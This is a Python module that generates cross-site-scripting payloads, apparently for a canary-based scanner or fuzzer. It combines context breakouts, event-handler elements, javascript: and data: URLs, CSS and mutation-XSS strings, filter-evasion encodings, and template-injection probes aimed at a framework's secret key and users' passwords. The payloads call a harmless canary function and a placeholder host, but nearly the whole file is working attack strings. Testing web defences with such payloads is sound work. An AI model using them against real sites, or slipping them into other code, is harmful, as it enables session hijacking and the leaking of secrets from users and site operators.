"""Cross-site-scripting payloads, made from a grammar: what breaks out of a place, what then runs, how it is written.

Each that makes an element gives it the attribute `data-c`; each that runs calls `c(1)`; each that asks a host asks AWAY.
Nothing but a browser that was led astray does any of this.
"""

from collections.abc import Callable, Iterable, Iterator
from itertools import product
from urllib.parse import quote

RUN, AWAY = "c(1)", "//canary.invalid/x"

OUT = ("", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "]]>", "`>", "</svg>",
    "</a>", '"/>', "<!--><p>", "</noscript>")  # fmt: skip
"""Ends of what a text may stand in: attributes of either quotation, remarks, elements whose content is no HTML."""

ELEMENTS = (
    f"<script data-c>{RUN}</script>", f"<script data-c src={AWAY}></script>", f"<img data-c src=x onerror={RUN}>",
    f"<svg data-c onload={RUN}>", f"<svg data-c><script>{RUN}</script></svg>", f"<svg><animate data-c onbegin={RUN}>",
    f"<svg><a data-c xlink:href=javascript:{RUN}><text>x", f"<body data-c onload={RUN}>",
    f"<details data-c open ontoggle={RUN}>",
    f"<input data-c autofocus onfocus={RUN}>", f"<select data-c autofocus onfocus={RUN}>",
    f"<textarea data-c autofocus onfocus={RUN}>", f"<video data-c><source onerror={RUN}>",
    f"<audio data-c src=x onerror={RUN}>",
    f"<iframe data-c src=javascript:{RUN}></iframe>", f"<iframe data-c srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data-c data=javascript:{RUN}>", f"<embed data-c src=javascript:{RUN}>", f"<a data-c href=javascript:{RUN}>x</a>",
    f"<form data-c><button formaction=javascript:{RUN}>x</button></form>", f"<link data-c rel=stylesheet href={AWAY}>",
    f"<style data-c>@import'{AWAY}'</style>", f"<p data-c style=background:url({AWAY})>", f"<img data-c src={AWAY}>",
    f"<meta data-c http-equiv=refresh content='0;url={AWAY}'>", f"<base data-c href={AWAY}>",
    f"<marquee data-c onstart={RUN}>x", f"<math data-c><mi xlink:href=javascript:{RUN}>x", f"<table data-c background={AWAY}>",
    f"<x data-c tabindex=1 autofocus onfocus={RUN}>x",
)  # fmt: skip

ATTRIBUTES = tuple(
    f"{mark}{space}{name}={mark}{RUN}{mark}{space}autofocus{space}data-c={mark}"
    for mark, space, name in product(("'", '"', "`", ""), (" ", "/", "\t"), ("onfocus", "onmouseover"))
)
"""Stay within the element and give it another attribute."""

SCRIPTS = (
    f"';{RUN};//", f'";{RUN};//', f"\\';{RUN};//", f'\\";{RUN};//', f"`;{RUN};//", f"${{{RUN}}}", f"'-{RUN}-'", f'"-{RUN}-"',
    f"*/{RUN}/*", f"\u2028{RUN}//", f"\n{RUN}\n", f"</script><script data-c>{RUN}</script>", f"<!--<script>{RUN}//-->",
    f"\\u0027;{RUN};//", f"\\x27;{RUN};//", f"');{RUN};('", f"]}};{RUN};//",
)  # fmt: skip
ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f" javascript:{RUN}",
    f"\x01javascript:{RUN}", f"javascript&colon;{RUN}", f"javascript://%0a{RUN}", f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg onload={RUN}>", f"vbscript:{RUN}", AWAY, f"https:{AWAY}", f"\\\\{AWAY[2:]}",
)  # fmt: skip
STYLES = (
    f"x}}body{{background:url({AWAY})}}", f"x;background:url({AWAY})", f"expression({RUN})", f"url(javascript:{RUN})",
    f"</style><style data-c>*{{background:url({AWAY})}}", f"\\3c img data-c src=x onerror={RUN}\\3e",
)  # fmt: skip
TEMPLATES = (
    "{{ settings.SECRET_KEY }}", "{% debug %}", "{% load log %}{% get_admin_log 9 as x %}", "{{ request.user.password }}",
    "{% include 'base.html' %}", "{{constructor.constructor('c(1)')()}}", "${{c(1)}}", "<%= c(1) %>", "#{c(1)}", "[[${c(1)}]]",
    "{% autoescape off %}<p data-c>{% endautoescape %}", "{{ '<p data-c>'|safe }}", "%(a)s{0}", "{#", "{% comment %}",
)  # fmt: skip
MUTATIONS = (
    f'<math><mtext><table><mglyph><style><!--</style><img data-c title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f'<svg></p><style><a id="</style><img data-c src=x onerror={RUN}>">',
    f'<noscript><p title="</noscript><img data-c src=x onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img data-c src=x onerror={RUN}>",
    f"<template><img data-c src=x onerror={RUN}></template>", f"<select><template><img data-c src=x onerror={RUN}>",
    f"<title><img data-c src=x onerror={RUN}></title>", f"<xmp><p title='</xmp><img data-c src=x onerror={RUN}>'>",
    f"<svg><foreignObject><p data-c><img src=x onerror={RUN}>", f"<img data-c src='x`'`onerror={RUN}>",
    f"<<script data-c>{RUN}//<</script>", f"<img data-c\nsrc=x\nonerror\n=\n{RUN}>", f"<img/data-c/src=x/onerror={RUN}>",
    f"<scr<script data-c>ipt>{RUN}</script>", f"<svg/data-c/onload={RUN}//", f"<p data-c title='\x0b' onclick={RUN}>",
)  # fmt: skip

WAYS: tuple[Callable[[str], str], ...] = (
    str.swapcase,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    lambda text: text.replace("<", "&#60;").replace(">", "&#x3e"),
    lambda text: quote(text, safe=""),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\N{FULLWIDTH LESS-THAN SIGN}").replace(">", "\N{FULLWIDTH GREATER-THAN SIGN}"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("<", "\xbc").replace(">", "\xbe"),
    lambda text: text.replace(" ", "\x0c").replace("=", "\n=\n"),
)
"""Other ways to write the same, which something on the way may read back."""


def _every() -> Iterator[str]:
    yield from (out + element for out, element in product(OUT, ELEMENTS))
    yield from (*ATTRIBUTES, *SCRIPTS, *ADDRESSES, *STYLES, *TEMPLATES, *MUTATIONS)
    yield from (way(element) for way, element in product(WAYS, ELEMENTS[:4]))


PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(_every()))


def fitting(numbers: Iterable[int], room: int, most: int) -> list[int]:
    """Of the numbers of payloads the first ones that a field of so many characters takes, with a blank between them."""
    found: list[int] = []
    for number in numbers:
        length = len(PAYLOADS[number]) + 1
        if length <= room and len(found) < most:
            found.append(number)
            room -= length
    return found
